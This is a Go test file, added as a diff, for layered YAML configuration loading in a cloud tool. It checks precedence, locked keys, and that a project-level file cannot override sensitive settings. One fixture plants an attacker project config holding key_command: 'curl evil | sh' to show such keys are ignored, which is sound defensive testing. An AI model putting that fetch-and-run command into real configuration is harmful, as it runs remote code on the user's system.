@@ -0,0 +1,272 @@
+package app
+
+import (
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+)
+
+// isolateConfigLayers points the system config and working directory at an
+// empty temp dir so the host's /etc/swamp and any .swamp.yaml are ignored.
+func isolateConfigLayers(t *testing.T) string {
+	t.Helper()
+	dir := t.TempDir()
+	prevSystem, prevWD := systemConfigPath, workingDirFn
+	systemConfigPath = filepath.Join(dir, "etc", "config.yaml")
+	workingDirFn = func() (string, error) { return dir, nil }
+	t.Cleanup(func() {
+		systemConfigPath, workingDirFn = prevSystem, prevWD
+	})
+	return dir
+}
+
+func writeConfigLayerFile(t *testing.T, path, content string) {
+	t.Helper()
+	if err := os.MkdirAll(filepath.Dir(path), 0o700); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(path, []byte(content), 0o600); err != nil {
+		t.Fatal(err)
+	}
+}
+
+func TestLoadLayeredConfigPrecedenceAndOrigins(t *testing.T) {
+	dir := isolateConfigLayers(t)
+	teamPath := filepath.Join(dir, "etc", "team.yaml")
+	userPath := filepath.Join(dir, "home", "config.yaml")
+	projectDir := filepath.Join(dir, "src", "payments")
+	workingDirFn = func() (string, error) { return filepath.Join(projectDir, "cmd", "api"), nil }
+
+	writeConfigLayerFile(t, systemConfigPath, `profile: corp-sso
+include: [team.yaml]
+discovery:
+  workers: 4
+  timeout: 2m
+`)
+	writeConfigLayerFile(t, teamPath, `profile: team-sso
+discovery:
+  workers: 8
+  regions: [eu-west-1]
+`)
+	writeConfigLayerFile(t, userPath, `profile:
+preferred_role: ReadOnly
+discovery:
+  workers: 16
+`)
+	writeConfigLayerFile(t, filepath.Join(projectDir, projectConfigName), `discovery:
+  regions: [us-east-1]
+`)
+
+	cfg, err := loadLayeredConfig(userPath)
+	if err != nil {
+		t.Fatalf("loadLayeredConfig: %v", err)
+	}
+	if cfg.Profile != "team-sso" {
+		t.Fatalf("expected the empty user profile to leave the team value, got %q", cfg.Profile)
+	}
+	if cfg.Discovery.Workers == nil || *cfg.Discovery.Workers != 16 {
+		t.Fatalf("expected user workers to win, got %v", cfg.Discovery.Workers)
+	}
+	if len(cfg.Discovery.Regions) != 1 || cfg.Discovery.Regions[0] != "us-east-1" {
+		t.Fatalf("expected project regions to win, got %v", cfg.Discovery.Regions)
+	}
+	if cfg.Discovery.Timeout != "2m" {
+		t.Fatalf("expected system timeout to carry through, got %q", cfg.Discovery.Timeout)
+	}
+	wantFiles := []string{systemConfigPath, teamPath, userPath, filepath.Join(projectDir, projectConfigName)}
+	if len(cfg.files) != len(wantFiles) {
+		t.Fatalf("expected files %v, got %v", wantFiles, cfg.files)
+	}
+	for i := range wantFiles {
+		if cfg.files[i] != wantFiles[i] {
+			t.Fatalf("expected files %v, got %v", wantFiles, cfg.files)
+		}
+	}
+
+	opts, err := mergeOptions(Options{}, cfg)
+	if err != nil {
+		t.Fatalf("mergeOptions: %v", err)
+	}
+	for key, want := range map[string]string{
+		"profile": "config(" + teamPath + ")",
+		"workers": "config(" + userPath + ")",
+		"regions": "config(" + filepath.Join(projectDir, projectConfigName) + ")",
+		"timeout": "config(" + systemConfigPath + ")",
+		"role":    "config(" + userPath + ")",
+	} {
+		if got := sourceOf(opts, key); got != want {
+			t.Fatalf("expected %s source %q, got %q", key, want, got)
+		}
+	}
+}
+
+func TestLoadLayeredConfigKeepsLockedSystemKeys(t *testing.T) {
+	dir := isolateConfigLayers(t)
+	userPath := filepath.Join(dir, "home", "config.yaml")
+	writeConfigLayerFile(t, systemConfigPath, `locked: [cache.encrypt, profile]
+cache:
+  encrypt: true
+`)
+	writeConfigLayerFile(t, userPath, `profile: mine
+locked: [discovery]
+cache:
+  encrypt: false
+  mode: fresh
+discovery:
+  workers: 2
+`)
+
+	cfg, err := loadLayeredConfig(userPath)
+	if err != nil {
+		t.Fatalf("loadLayeredConfig: %v", err)
+	}
+	if cfg.Cache.Encrypt == nil || !*cfg.Cache.Encrypt {
+		t.Fatalf("expected locked cache.encrypt to stay true, got %v", cfg.Cache.Encrypt)
+	}
+	if cfg.Profile != "" {
+		t.Fatalf("expected locked profile to stay unset, got %q", cfg.Profile)
+	}
+	if cfg.Cache.Mode != "fresh" {
+		t.Fatalf("expected unlocked cache.mode from the user file, got %q", cfg.Cache.Mode)
+	}
+	if cfg.Discovery.Workers == nil || *cfg.Discovery.Workers != 2 {
+		t.Fatalf("expected locked in the user file to be ignored, got %v", cfg.Discovery.Workers)
+	}
+}
+
+func TestLockedKeysRejectFlagEnvAndPresetOverrides(t *testing.T) {
+	dir := isolateConfigLayers(t)
+	userPath := filepath.Join(dir, "home", "config.yaml")
+	writeConfigLayerFile(t, systemConfigPath, `locked: [cache, discovery.include_stopped]
+cache:
+  encrypt: true
+`)
+	writeConfigLayerFile(t, userPath, `presets:
+  wide:
+    include_stopped: true
+`)
+	cfg, err := loadLayeredConfig(userPath)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if _, err := mergeOptions(Options{CacheMode: "balanced"}, cfg); err != nil {
+		t.Fatalf("expected no error without overrides, got %v", err)
+	}
+
+	cli := Options{CacheEncrypt: false, FlagSet: map[string]bool{"cache-encrypt": true}}
+	if _, err := mergeOptions(cli, cfg); err == nil || !strings.Contains(err.Error(), "cache.encrypt is locked") {
+		t.Fatalf("expected a locked flag error, got %v", err)
+	}
+	t.Setenv("SWAMP_CACHE_DIR", dir)
+	if _, err := mergeOptions(Options{}, cfg); err == nil || !strings.Contains(err.Error(), "env(SWAMP_CACHE_DIR)") {
+		t.Fatalf("expected a locked env error, got %v", err)
+	}
+	t.Setenv("SWAMP_CACHE_DIR", "")
+	if _, err := mergeOptions(Options{Preset: "wide"}, cfg); err == nil || !strings.Contains(err.Error(), "preset(wide)") {
+		t.Fatalf("expected a locked preset error, got %v", err)
+	}
+
+	// A stopped-state filter does not quietly turn on a locked include_stopped.
+	out, err := mergeOptions(Options{Filter: "state=stopped", FlagSet: map[string]bool{"filter": true}}, cfg)
+	if err != nil || out.IncludeStopped {
+		t.Fatalf("expected include_stopped to stay locked off, got %v (err=%v)", out.IncludeStopped, err)
+	}
+}
+
+func TestLoadLayeredConfigPutsHigherAccountEntriesFirst(t *testing.T) {
+	dir := isolateConfigLayers(t)
+	userPath := filepath.Join(dir, "home", "config.yaml")
+	writeConfigLayerFile(t, systemConfigPath, `accounts:
+  "*":
+    include_stopped: true
+  prod-*:
+    preferred_role: ReadOnly
+`)
+	writeConfigLayerFile(t, userPath, `accounts:
+  prod-*:
+    preferred_role: Admin
+`)
+
+	cfg, err := loadLayeredConfig(userPath)
+	if err != nil {
+		t.Fatalf("loadLayeredConfig: %v", err)
+	}
+	if len(cfg.Accounts) != 2 || cfg.Accounts[0].Match != "prod-*" || cfg.Accounts[1].Match != "*" {
+		t.Fatalf("expected user entry first then system catch-all, got %+v", cfg.Accounts)
+	}
+	if cfg.Accounts[0].PreferredRole != "Admin" {
+		t.Fatalf("expected the user entry to replace the system one, got %+v", cfg.Accounts[0])
+	}
+	if cfg.origins["accounts.prod-*.preferred_role"] != userPath {
+		t.Fatalf("expected origin %s, got %v", userPath, cfg.origins)
+	}
+}
+
+func TestProjectConfigOnlySetsSafeKeys(t *testing.T) {
+	dir := isolateConfigLayers(t)
+	userPath := filepath.Join(dir, "home", "config.yaml")
+	writeConfigLayerFile(t, userPath, `cache:
+  dir: /home/me/.cache/swamp
+`)
+	writeConfigLayerFile(t, filepath.Join(dir, projectConfigName), `profile: attacker
+cache:
+  encrypt: true
+  key_command: "curl evil | sh"
+  dir: /tmp/shared
+policy:
+  read_only: false
+discovery:
+  filter: tag:Team=payments
+  workers: 100
+presets:
+  api:
+    role: Admin
+    document: AWS-RunShellScript
+ux:
+  picker: builtin
+`)
+
+	cfg, err := loadLayeredConfig(userPath)
+	if err != nil {
+		t.Fatalf("loadLayeredConfig: %v", err)
+	}
+	if cfg.Profile != "" || cfg.Cache.KeyCommand != "" || cfg.Cache.Encrypt != nil || cfg.Cache.Dir != "/home/me/.cache/swamp" {
+		t.Fatalf("expected profile and cache keys from the project file to be ignored, got %+v / %+v", cfg.Profile, cfg.Cache)
+	}
+	if cfg.Discovery.Workers != nil || cfg.Policy.ReadOnly != nil || cfg.Presets["api"].Document != "" {
+		t.Fatalf("expected workers, policy and preset documents to be ignored, got %+v", cfg)
+	}
+	if cfg.Discovery.Filter != "tag:Team=payments" || cfg.Presets["api"].Role != "Admin" || cfg.UX.Picker != "builtin" {
+		t.Fatalf("expected filters, presets and display options to apply, got %+v", cfg)
+	}
+}
+
+func TestProjectConfigCannotChangeEnvironments(t *testing.T) {
+	dir := isolateConfigLayers(t)
+	userPath := filepath.Join(dir, "home", "config.yaml")
+	writeConfigLayerFile(t, userPath, `environments:
+  prod:
+    accounts: ["123456789012"]
+    protected: true
+`)
+	writeConfigLayerFile(t, filepath.Join(dir, projectConfigName), `environments:
+  prod:
+    accounts: ["123456789012"]
+    protected: false
+  dev:
+    accounts: ["*"]
+`)
+
+	cfg, err := loadLayeredConfig(userPath)
+	if err != nil {
+		t.Fatalf("loadLayeredConfig: %v", err)
+	}
+	opts, err := mergeOptions(Options{Workers: 1}, cfg)
+	if err != nil {
+		t.Fatalf("mergeOptions: %v", err)
+	}
+	if len(opts.environments) != 1 || opts.environments[0].Name != "prod" || !opts.environments[0].Protected {
+		t.Fatalf("expected only the user file's protected prod environment, got %+v", opts.environments)
+	}
+}